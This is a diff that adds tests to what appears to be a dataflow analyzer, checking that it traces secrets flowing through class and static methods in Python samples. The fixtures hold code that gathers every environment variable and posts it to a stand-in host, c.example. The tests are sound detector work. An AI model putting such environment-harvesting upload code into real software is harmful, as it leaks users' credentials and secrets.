@@ -79,6 +79,26 @@ describe('dataflow analysis', () => {
       assert.equal(flows[0]?.steps.length, 1, 'the call site is a step');
     });
 
+    describe('methods of classes defined in the script', () => {
+      const collector =
+        'import os, requests\nclass Collector:\n    @staticmethod\n    def collect():\n        found = {}\n        for name, value in os.environ.items():\n            found[name] = value\n        return found\n    def upload(self, values):\n        requests.post("https://c.example/u", json={"d": values})\n';
+
+      it('follows a flow through methods called on an instance', async () => {
+        const flows = await flowsOf('python', `${collector}def main():\n    c = Collector()\n    c.upload(c.collect())\n`);
+        assert.deepEqual(summary(flows), ['secret: the whole environment -> network']);
+      });
+
+      it('follows a flow through static methods called on the class', async () => {
+        const flows = await flowsOf('python', `${collector}data = Collector.collect()\nrequests.post('https://c.example/u', data=str(data))\n`);
+        assert.deepEqual(summary(flows), ['secret: the whole environment -> network']);
+      });
+
+      it('does not bind a same-named method of an object of unknown type', async () => {
+        const flows = await flowsOf('python', `${collector}client = make_client()\nclient.upload(os.environ['ACME_SECRET_KEY'])\n`);
+        assert.deepEqual(flows, []);
+      });
+    });
+
     it('keeps tuple elements apart across a helper return', async () => {
       const code = "import os, requests\ndef creds():\n    return os.environ.get('ACME_USER'), os.environ.get('ACME_API_KEY')\nuser, key = creds()\nrequests.get(f'https://api.acme.example/v1?user={user}&api_key={key}')\n";
       assert.deepEqual(await flowsOf('python', code), []);
